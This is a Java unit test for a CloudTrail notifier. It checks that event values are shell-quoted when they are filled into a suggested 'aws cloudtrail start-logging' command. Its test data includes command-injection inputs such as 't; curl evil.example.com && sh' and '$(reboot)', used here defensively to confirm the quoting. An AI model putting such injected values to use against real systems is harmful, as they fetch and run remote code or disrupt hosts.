package cloudtrail.notifier.catalog;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A suggested command carries event values as single shell words, whatever the event's author wrote. */
class NextStepTest {
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            a plain name              | management-events               | management-events
            an ARN                    | arn:aws:cloudtrail:ap-northeast-1:111122223333:trail/t | arn:aws:cloudtrail:ap-northeast-1:111122223333:trail/t
            a command after it        | t; curl evil.example.com && sh | 't; curl evil.example.com && sh'
            a command substitution    | $(reboot)                       | '$(reboot)'
            a quote inside            | it's                            | 'it'\\''s'
            a line break              | `a\nb`                          | `'a\nb'`
            """)
    void eventValuesAreQuotedIntoOneShellWord(String name, String value, String expected) throws Exception {
        JsonNode record = CatalogFiles.MAPPER.readTree("{\"requestParameters\": {\"name\": " + CatalogFiles.MAPPER.writeValueAsString(value) + "}}");
        Text filled = Assessor.fill(new Text("aws cloudtrail start-logging --name {requestParameters.name}",
                "aws cloudtrail start-logging --name {requestParameters.name}"), record);

        assertEquals("aws cloudtrail start-logging --name " + expected.replace("\\n", "\n"), filled.ja());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a missing value | {"requestParameters": {}} | aws cloudtrail start-logging --name <name>
            """)
    void aValueTheEventLacksIsLeftForTheReader(String name, String json, String expected) throws Exception {
        Text filled = Assessor.fill(new Text("aws cloudtrail start-logging --name {requestParameters.name}", "x"),
                CatalogFiles.MAPPER.readTree(json));

        assertEquals(expected, filled.ja());
    }
}
